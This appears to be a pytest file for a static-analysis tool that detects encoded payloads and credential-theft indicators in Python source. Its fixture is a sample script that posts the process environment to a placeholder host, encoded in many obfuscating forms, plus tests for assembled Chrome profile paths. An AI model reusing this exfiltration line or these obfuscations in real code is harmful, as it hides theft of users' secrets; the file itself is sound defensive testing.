"""Literals and what the long ones decode to."""

import base64
import bz2
import gzip
import lzma
import marshal
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, PayloadKind
from pratique.analysis.languages.python.literals import decode_once, inflated
from tests.analysis.languages.python.reading import facts

CODE = b"import os, sys\nimport requests\n\ndef main():\n    os.system('echo marker')\n    requests.post('https://c.invalid/x', data=os.environ)\n\nmain()\n"
PROGRAM = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(47) + b"PE\x00\x00" + bytes(200)
)
BITS = "".join(f"{byte:08b}" for byte in CODE).replace("0", " ").replace("1", "\t")

ENCODED = {
    "base64": (PayloadKind.CODE, base64.b64encode(CODE)),
    "text of base64": (PayloadKind.CODE, base64.b64encode(CODE).decode()),
    "urlsafe": (PayloadKind.CODE, base64.urlsafe_b64encode(CODE).decode()),
    "lines": (PayloadKind.CODE, base64.encodebytes(CODE).decode()),
    "reversed": (PayloadKind.CODE, base64.b64encode(CODE).decode()[::-1]),
    "hex": (PayloadKind.CODE, CODE.hex()),
    "base32": (PayloadKind.CODE, base64.b32encode(CODE).decode()),
    "base85 of zlib": (PayloadKind.CODE, base64.b85encode(zlib.compress(CODE)).decode()),
    "zlib": (PayloadKind.CODE, zlib.compress(CODE)),
    "gzip in base64": (PayloadKind.CODE, base64.b64encode(gzip.compress(CODE, mtime=0)).decode()),
    "lzma in base64": (PayloadKind.CODE, base64.b64encode(lzma.compress(CODE)).decode()),
    "bz2": (PayloadKind.CODE, bz2.compress(CODE)),
    "twice": (PayloadKind.CODE, base64.b64encode(base64.b64encode(CODE)).decode()),
    "program": (PayloadKind.EXECUTABLE, base64.b64encode(PROGRAM).decode()),
    "blanks": (PayloadKind.CODE, BITS),
    "bytecode": (PayloadKind.BYTECODE, marshal.dumps(compile(CODE, "x", "exec"))),
}


@pytest.mark.parametrize(("kind", "literal"), ENCODED.values(), ids=ENCODED.keys())
def test_what_a_literal_decodes_to_is_a_payload(kind: PayloadKind, literal: str | bytes) -> None:
    found = facts(f"def f():\n  return g({literal!r})")

    assert [(kind, 2, False, 1)] == [(p.kind, p.line, p.at_load, p.scope) for p in found.payloads]


def test_the_code_in_a_literal_is_read() -> None:
    found = facts(f"x = {base64.b64encode(CODE)!r}")

    assert "echo marker" in {use.argument for use in found.uses if use.capability is Capability.PROCESS}
    assert [True] == [
        address.encoded for address in found.addresses if address.value == "https://c.invalid/x"
    ]


@pytest.mark.parametrize(
    "literal",
    [
        base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4).decode(),
        base64.b64encode(b"The quick brown fox jumps over the lazy dog, again and again. " * 9).decode(),
        "0123456789abcdef" * 20,
        "a" * 500,
        "A line of prose that is long enough to be looked at, and has nothing in it that runs. " * 4,
        " " * 900,
    ],
    ids=["image", "prose in base64", "digest", "one letter", "prose", "blanks"],
)
def test_other_long_literals_are_none(literal: str) -> None:
    assert () == facts(f"x = {literal!r}").payloads


@given(st.text(), st.binary())
def test_nothing_raises(text: str, data: bytes) -> None:
    decode_once(text)
    inflated(data)
    inflated(b"x\x9c" + data)


@pytest.mark.parametrize(
    "source",
    [
        "from pathlib import Path\nbase = Path('x')\nP = {'a': base / 'Google' / 'Chrome' / 'User Data'}",
        "import os\np = os.path.join(home, 'Google', 'Chrome', 'User Data')",
        "from pathlib import Path\nPath.home().joinpath('Google', 'Chrome', 'User Data')",
    ],
)
def test_a_place_is_named_by_a_path_that_is_put_together(source: str) -> None:
    assert "browser profiles" in {use.api for use in facts(source).uses}


def test_parts_of_a_path_alone_name_no_place() -> None:
    assert () == facts("a = 'Google'\nb = 'Chrome'\nc = 6 / 'User Data'").uses
